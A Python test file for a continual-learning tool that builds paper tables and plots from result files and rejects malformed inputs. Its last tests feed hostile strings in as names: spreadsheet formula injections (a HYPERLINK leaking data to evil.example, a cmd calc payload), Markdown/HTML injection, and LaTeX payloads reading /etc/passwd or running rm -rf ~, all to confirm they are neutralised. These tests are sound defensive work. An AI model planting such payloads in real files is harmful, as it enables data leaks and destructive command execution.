"""Paper tables from result files: rows, columns and repetitions as documented,
statistics against a plain recomputation, the three formats, the plots, and
result files and manifests as untrusted input."""
import csv
import json
import math
import os
import statistics

import numpy as np
import pytest

from aidge_incremental.cli import main
from aidge_incremental.evaluation import ClassifierHistory, RunResult
from aidge_incremental.table import MANIFEST, ResultTable, TableError, collect_runs, read_results


def history(matrix):
    """A classifier's history from its accuracy matrix (rows of t + 1 accuracies)."""
    h = ClassifierHistory()
    for row in matrix:
        h.matrix.append([float(a) for a in row])
        h.acc_seen.append(float(np.mean(row)))
        h.acc_old.append(float(np.mean(row[:-1])) if len(row) > 1 else float("nan"))
        h.acc_new.append(float(row[-1]))
    return h


def random_matrix(rng, steps=3):
    return [list(rng.uniform(0.2, 1.0, t + 1).round(4)) for t in range(steps)]


def write_run(folder, method, seed, rng, classifiers=("head",), steps=3, **config):
    config = {"method": method, "dataset": "digits", "model": "mlp", "initial": 2, "increment": 2, "seed": seed,
              "output_dir": str(folder), **config}
    matrices = {name: random_matrix(rng, steps) for name in classifiers}
    RunResult(method, config, list(range(10)), {k: history(m) for k, m in matrices.items()},
              classes_seen=[2 * (t + 1) for t in range(steps)]).write(folder)
    return matrices


def forgetting(matrix):
    T = len(matrix)
    return float(np.mean([max(matrix[t][j] for t in range(j, T - 1)) - matrix[T - 1][j] for j in range(T - 1)]))


def stats(matrices):
    """mean and sample sd (statistics.stdev) of the three metrics, in %."""
    per = {"average_incremental_accuracy": [np.mean([np.mean(r) for r in m]) for m in matrices],
           "last_accuracy": [np.mean(m[-1]) for m in matrices],
           "average_forgetting": [forgetting(m) for m in matrices]}
    return {k: (100 * statistics.fmean(v), 100 * statistics.stdev(v) if len(v) > 1 else float("nan"))
            for k, v in per.items()}


def test_runs_outside_a_sweep_rows_per_method_columns_per_scenario(tmp_path, rng):
    made = {}
    for seed in (0, 1, 2):
        made[("icarl", 200, "digits", seed)] = write_run(tmp_path / f"icarl200-{seed}", "icarl", seed, rng,
                                                         ("nme", "head"), memory=200)
    for seed in (0, 1):
        made[("icarl", 2000, "digits", seed)] = write_run(tmp_path / f"icarl2000-{seed}", "icarl", seed, rng,
                                                          ("nme", "head"), memory=2000)
        made[("finetune", 0, "digits", seed)] = write_run(tmp_path / f"ft-{seed}", "finetune", seed, rng, memory=0)
        made[("finetune", 0, "mnist", seed)] = write_run(tmp_path / f"ft-mnist-{seed}", "finetune", seed, rng,
                                                         memory=0, dataset="mnist", data_dir=f"/data/{seed}")
    table = ResultTable(collect_runs([tmp_path]))
    assert table.protocols == ["dataset=digits", "dataset=mnist"]  # in the order met (folders sorted)
    assert table.rows == ["finetune", "icarl memory=200 (nme)", "icarl memory=200 (head)", "icarl memory=2000 (nme)",
                          "icarl memory=2000 (head)"]
    assert ("icarl memory=200 (nme)", "dataset=mnist") not in table.cells
    rows = {(r["row"], r["protocol"]): r for r in csv.DictReader(table.csv().splitlines())}
    for (row, protocol), key, clf in ((("finetune", "dataset=digits"), ("finetune", 0, "digits"), "head"),
                                      (("finetune", "dataset=mnist"), ("finetune", 0, "mnist"), "head"),
                                      (("icarl memory=200 (nme)", "dataset=digits"), ("icarl", 200, "digits"), "nme"),
                                      (("icarl memory=2000 (head)", "dataset=digits"), ("icarl", 2000, "digits"),
                                       "head")):
        matrices = [m[clf] for k, m in made.items() if k[:3] == key]
        expected = stats(matrices)
        line = rows[(row, protocol)]
        assert int(line["n"]) == len(matrices)
        for metric, (mean, sd) in expected.items():
            assert math.isclose(float(line[f"{metric}_mean"]), mean, rel_tol=1e-12)
            assert math.isclose(float(line[f"{metric}_sd"]), sd, rel_tol=1e-9)
    assert "n seeds (given per entry)" in table.markdown() and "(n=3)" in table.markdown()


def test_a_sweeps_manifest_decides_rows_and_columns(tmp_path, rng):
    """In a sweep the memory axis is a column although finetune's and icarl's
    memories differ by default: the manifest says so, nothing is guessed."""
    cells = []
    for method in ("finetune", "icarl"):
        for memory in (20, 40):
            for seed in (0, 1):
                name = f"{method}-memory={memory}-seed={seed}"
                write_run(tmp_path / name, method, seed, rng, memory=memory, lr=0.1 if method == "icarl" else 0.05)
                config = json.loads((tmp_path / name / "results.json").read_text())["config"]
                cells.append({"name": name, "row": method, "protocol": {"memory": memory}, "config": config})
    (tmp_path / MANIFEST).write_text(json.dumps({"format": "aidge_incremental sweep", "version": 1, "cells": cells}))
    table = ResultTable(collect_runs([tmp_path]))
    assert table.rows == ["finetune", "icarl"] and table.protocols == ["memory=20", "memory=40"]
    assert all(s.n == 2 for s in table.cells.values())
    # a cell's folder holding another run than the manifest's is refused
    data = json.loads((tmp_path / "icarl-memory=40-seed=1" / "results.json").read_text())
    data["config"]["epochs"] = 7
    (tmp_path / "icarl-memory=40-seed=1" / "results.json").write_text(json.dumps(data))
    with pytest.raises(TableError, match=r"icarl-memory=40-seed=1 holds a run of another configuration .*epochs"):
        collect_runs([tmp_path])


def test_one_run_counted_twice_is_refused(tmp_path, rng):
    write_run(tmp_path / "a", "lwf", 3, rng)
    write_run(tmp_path / "b", "lwf", 3, rng)
    with pytest.raises(TableError, match=r"a and .*b are the same repetition \(seed 3\) of row 'lwf'"):
        ResultTable(collect_runs([tmp_path / "a", tmp_path / "b"]))
    write_run(tmp_path / "c", "lwf", 4, rng, steps=4)
    with pytest.raises(TableError, match=r"mixes runs of \[3, 4\] steps"):
        ResultTable(collect_runs([tmp_path / "a", tmp_path / "c"]))


def test_markdown_latex_and_csv(tmp_path, rng):
    for seed in (0, 1):
        write_run(tmp_path / f"x{seed}", "icarl", seed, rng, ("nme", "head"), memory=10)
        write_run(tmp_path / f"y{seed}", "icarl", seed, rng, ("nme", "head"), memory=10, increment=5)
    write_run(tmp_path / "z-solo", "finetune", 0, rng, increment=5)
    table = ResultTable(collect_runs([tmp_path]))
    md = table.markdown().splitlines()
    assert md[0] == ("| method | increment=2 avg. incremental | increment=2 last | increment=2 forgetting | "
                     "increment=5 avg. incremental | increment=5 last | increment=5 forgetting |")
    finetune = next(line for line in md if line.startswith("| finetune |"))
    assert finetune.split(" | ")[1] == "–", "no finetune run on that protocol"
    assert "±" not in finetune.split(" | ")[4], "one run: no sd"
    tex = table.latex()
    assert r"\multicolumn{3}{c}{increment=2} & \multicolumn{3}{c}{increment=5} \\" in tex
    assert r"\cmidrule(lr){2-4}\cmidrule(lr){5-7}" in tex
    assert tex.count(r"\pm") == 3 * 4 and r"\begin{tabular}{lccc ccc}" in tex
    assert "% In \\%: mean ± sample standard deviation (ddof = 1)" in tex
    lines = list(csv.reader(table.csv().splitlines()))
    assert lines[0][:4] == ["row", "protocol", "n", "seeds"] and len(lines) == 1 + 4 + 1
    assert table.format("csv") == table.csv()
    with pytest.raises(TableError, match="unknown table format 'html'"):
        table.format("html")


def test_latex_escapes_names(tmp_path, rng):
    for seed in (0, 1):
        write_run(tmp_path / f"r{seed}", "my_method&co", seed, rng)
    tex = ResultTable(collect_runs([tmp_path])).latex()
    assert r"my\_method\&co & $" in tex


def test_one_plot_per_protocol_with_a_band_over_seeds(tmp_path, rng):
    for seed in (0, 1, 2):
        write_run(tmp_path / "runs" / f"a{seed}", "lwf", seed, rng, dataset="digits")
        write_run(tmp_path / "runs" / f"b{seed}", "lwf", seed, rng, dataset="mnist")
    paths = ResultTable(collect_runs([tmp_path / "runs"])).plot(tmp_path / "plots")
    assert [p.name for p in paths] == ["accuracy-dataset=digits.png", "accuracy-dataset=mnist.png"]
    for p in paths:
        assert p.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_the_table_command(tmp_path, rng, capsys):
    for seed in (0, 1):
        write_run(tmp_path / f"r{seed}", "lwf", seed, rng)
    assert main(["table", str(tmp_path / "r0"), str(tmp_path / "r1"), "--format", "latex",
                 "--output", str(tmp_path / "t.tex"), "--plot", str(tmp_path / "p")]) == 0
    assert (tmp_path / "t.tex").read_text().startswith(r"\begin{tabular}")
    assert (tmp_path / "p" / "accuracy.png").exists()
    assert main(["table", str(tmp_path / "none")]) == 2
    assert "none is not a directory" in capsys.readouterr().err
    (tmp_path / "empty").mkdir()
    assert main(["table", str(tmp_path / "empty")]) == 2
    assert "holds no run" in capsys.readouterr().err


def _corrupt(data, how):
    h = data["classifiers"]["head"]
    if how == "above one":
        h["acc_seen"][1] = 1.5
    elif how == "nan":
        h["matrix"][2][0] = float("nan")
    elif how == "ragged":
        h["matrix"][1] = [0.5]
    elif how == "short":
        h["acc_new"] = h["acc_new"][:2]
    elif how == "string":
        h["acc_seen"][0] = "0.5"
    elif how == "no classifier":
        data["classifiers"] = {}
    elif how == "classes":
        data["classes_seen"] = [2, -4, 6]
    elif how == "not a run":
        return [1, 2, 3]
    return data


@pytest.mark.parametrize("how", ["above one", "nan", "ragged", "short", "string", "no classifier", "classes",
                                 "not a run"])
def test_bad_results_files_are_refused_naming_the_file(tmp_path, rng, how):
    write_run(tmp_path / "r", "lwf", 0, rng)
    path = tmp_path / "r" / "results.json"
    path.write_text(json.dumps(_corrupt(json.loads(path.read_text()), how)))
    with pytest.raises(TableError, match=f"results file {path}"):
        read_results(tmp_path / "r")


def test_unreadable_results_and_manifests_are_refused(tmp_path, rng):
    write_run(tmp_path / "r", "lwf", 0, rng)
    path = tmp_path / "r" / "results.json"
    path.write_bytes(b"\xff{")
    with pytest.raises(TableError, match="is not valid JSON"):
        read_results(path)
    path.unlink()
    os.mkfifo(path)  # would block a plain read for ever
    with pytest.raises(TableError, match="not a regular file"):
        read_results(path)
    for cells, message in (([{"name": "../up", "row": "x", "protocol": {}, "config": {}}], "one path component"),
                           ([{"name": "a", "row": "x", "protocol": {}, "config": {}}] * 2, "listed twice"),
                           ("cells", "cells must be a list")):
        (tmp_path / MANIFEST).write_text(json.dumps({"format": "aidge_incremental sweep", "version": 1,
                                                     "cells": cells}))
        with pytest.raises(TableError, match=message):
            collect_runs([tmp_path])
    (tmp_path / MANIFEST).write_text(json.dumps({"format": "aidge_incremental sweep", "version": 9, "cells": []}))
    with pytest.raises(TableError, match="version 9"):
        collect_runs([tmp_path])


# -- hostile names reach the three formats neutralised ------------------------------------------

def _sweep_of(tmp_path, rng, rows, protocol=None):
    """A sweep's folder whose manifest names the given rows (one finished cell each)."""
    cells = []
    for i, row in enumerate(rows):
        name = f"cell{i}"
        write_run(tmp_path / name, "lwf", 0, rng)
        config = json.loads((tmp_path / name / "results.json").read_text())["config"]
        cells.append({"name": name, "row": row, "protocol": protocol or {}, "config": config})
    (tmp_path / MANIFEST).write_text(json.dumps({"format": "aidge_incremental sweep", "version": 1, "cells": cells}))
    return ResultTable(collect_runs([tmp_path]))


@pytest.mark.filterwarnings("ignore:Glyph .* missing from font")  # the runs' own plots, of the hostile names
def test_csv_cells_are_never_formulas(tmp_path, rng):
    rows = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "-5", "plain"]
    table = _sweep_of(tmp_path, rng, rows, protocol={"=cmd": "x"})
    lines = list(csv.reader(table.csv().splitlines()))
    assert [line[0] for line in lines[1:]] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)",
        "-5", "plain"], "a formula is text; a number stays a number"
    assert {line[1] for line in lines[1:]} == {"'=cmd=x"}
    assert all(not cell.startswith(("=", "+", "@")) for line in lines for cell in line)
    # the numbers keep their sign: forgetting may be negative
    assert all(float(v) == float(v) for line in lines[1:] for v in line[4:] if v)
    # a tab or a carriage return first (runs outside a sweep: their method names the row)
    write_run(tmp_path / "loose" / "a", "\tcmd", 0, rng)
    write_run(tmp_path / "loose" / "b", "\r=1+1", 0, rng)
    lines = list(csv.reader(__import__("io").StringIO(ResultTable(collect_runs([tmp_path / "loose"])).csv())))
    assert [line[0] for line in lines[1:]] == ["' cmd", "' =1+1"], "and one line: a lone CR is not quoted"


def test_markdown_rows_stay_one_row_of_the_table(tmp_path, rng):
    write_run(tmp_path / "r0", "evil|col\n| injected | row |", 0, rng)
    write_run(tmp_path / "r1", "a\\|b <img src=x onerror=alert(1)>", 0, rng)
    md = ResultTable(collect_runs([tmp_path])).markdown().split("\n\n")[0].splitlines()
    assert len(md) == 2 + 2, "one line per row"
    assert md[2].startswith(r"| evil\|col \| injected \| row \| | ")
    assert md[3].startswith(r"| a\\\|b \<img src=x onerror=alert(1)> | ")
    for line in md:  # as many cells as the header: no | but the separators unescaped
        assert len(__import__("re").findall(r"(?<!\\)\|", line.replace("\\\\", ""))) == 4 + 1


def test_latex_stays_in_its_cells_and_its_comment(tmp_path, rng):
    for seed in (0, 1):
        write_run(tmp_path / f"r{seed}", "[3cm]x\n\n\\input{/etc/passwd}", seed, rng,
                  dataset="digits\n\\immediate\\write18{rm -rf ~}")
    tex = ResultTable(collect_runs([tmp_path])).latex()
    assert r"{[}3cm{]}x  \textbackslash{}input\{/etc/passwd\} & $" in tex
    assert not any(line.lstrip().startswith("\\input") or line.lstrip().startswith("\\immediate")
                   for line in tex.splitlines())
    assert tex.splitlines()[-1].startswith("% ") and "write18" in tex.splitlines()[-1], "all of the note in its comment"


def test_a_manifest_row_or_protocol_with_a_control_character_is_refused(tmp_path, rng):
    for protocol, row in (({}, "lwf\n| x |"), ({"memory": "20\r"}, "lwf")):
        with pytest.raises(TableError, match=r"cell cell0: its row or protocol holds a control character"):
            _sweep_of(tmp_path, rng, [row], protocol)
